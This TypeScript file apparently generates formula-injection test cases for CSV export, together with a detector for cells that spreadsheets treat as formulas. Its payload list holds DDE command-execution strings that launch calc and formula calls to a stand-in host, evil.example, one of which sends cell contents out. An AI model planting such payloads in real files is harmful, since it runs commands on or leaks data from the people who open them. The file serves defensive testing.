const starts = [
  '=',
  '+',
  '-',
  '@',
  '\t',
  '\r',
  '＝',
  '＋',
  '－',
  '＠',
  ' =',
  '"=',
  `'=`,
  '\n=',
  '|',
  '%',
  ';=',
  ',=',
  '\u00a0=',
  '\ufeff=',
];
const ends = [
  `cmd|' /C calc'!A0`,
  'HYPERLINK("http://evil.example/?x="&A1,"x")',
  'WEBSERVICE("http://evil.example")',
  'IMPORTXML("http://evil.example","//a")',
  'DDE("cmd";"/C calc";"x")',
  '1+1',
  'SUM(1,2)*cmd|x!y',
  "2+5+cmd|' /C calc'!A0",
  'A1',
  'IMAGE("http://evil.example/x.png")',
];

/** 2,000 cells that a spreadsheet might run. */
export const formulas: readonly string[] = starts.flatMap((start) =>
  ends.flatMap((end) => Array.from({ length: 10 }, (_, n) => `${start}${end}${' '.repeat(n)}`)),
);

/** What a spreadsheet takes for a formula when it opens a CSV file: the start of the cell once blanks that it skips are gone. */
export function isFormula(cell: string): boolean {
  return /^[=+\-@\t\r\0＝＋－＠]/.test(cell);
}
